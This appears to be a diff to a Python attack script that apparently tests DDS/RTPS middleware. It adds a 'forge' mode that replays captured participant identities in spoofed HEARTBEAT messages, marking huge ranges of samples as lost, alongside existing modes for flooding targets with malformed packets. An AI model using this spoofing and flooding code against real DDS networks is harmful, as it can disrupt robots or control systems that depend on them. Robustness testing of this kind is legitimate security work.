@@ -5,6 +5,7 @@ attack.py capture FILE SECONDS         writes the UDP payloads that come by to F
 attack.py storm SECONDS RATE SEED KINDS TARGETS [FILE]
     KINDS      of random, rtps (a proper header and broken submessages), tcp, mutated (copies of FILE, broken), with commas
     TARGETS    JSON: {"udp": [[address, port], ...], "tcp": [...]}
+attack.py forge FILE SECONDS TARGETS   for so long heartbeats in the name of all who are in FILE, for every writer that they may have
 prints how much of each it sent, as JSON."""
 
 import json
@@ -159,11 +160,16 @@ class Thrower:
                            self.r.choice((len(body), len(body), 0, 1, 0xFFFF))) + body
 
 
+def sender(targets):
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(targets["from"]))
+    return udp
+
+
 def storm(seconds, rate, seed, kinds, targets, path):
     thrower = Thrower(seed, read_captured(path) if path else [])
     choice = random.Random(seed + 1)
-    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(targets["from"]))
+    udp = sender(targets)
     udp.setblocking(False)
     sent = {kind: 0 for kind in kinds}
     refused = 0
@@ -202,6 +208,26 @@ def storm(seconds, rate, seed, kinds, targets, path):
     return {"sent": sent, "refused": refused, "seconds": round(time.monotonic() - begin, 1)}
 
 
+def forge(path, seconds, targets):
+    """A HEARTBEAT that says that everything up to number 2^40 is gone, in the clear."""
+    names = {payload[8:20] for payload in read_captured(path) if payload[:4] == b"RTPS"}
+    udp = sender(targets)
+    begin = time.monotonic()
+    sent = 0
+    while time.monotonic() - begin < seconds:
+        for name in names:
+            message = b"RTPS\x02\x03\x01\x0f" + name
+            for number in range(1, 65):
+                for kind in (2, 3):
+                    writer = struct.pack(">I", number << 8 | kind)
+                    message += struct.pack("<BBH", HEARTBEAT, 3, 28) + bytes(4) + writer + struct.pack("<IIIII", 256, 0, 256, 0, 10 ** 6 + sent)
+            for target in targets["udp"]:
+                udp.sendto(message, tuple(target))
+            sent += 1
+        time.sleep(0.05)
+    return {"members": len(names), "sent": sent * len(targets["udp"])}
+
+
 def main():
     what, *arguments = sys.argv[1:]
     if what == "ports":
@@ -209,6 +235,9 @@ def main():
     elif what == "capture":
         print("ready", flush=True)
         print(json.dumps(capture(arguments[0], float(arguments[1]))))
+    elif what == "forge":
+        path, seconds, targets = arguments
+        print(json.dumps(forge(path, float(seconds), json.loads(targets))))
     else:
         os.nice(10)  # it stands for another machine: what runs here is not to wait for it
         seconds, rate, seed, kinds, targets, *path = arguments
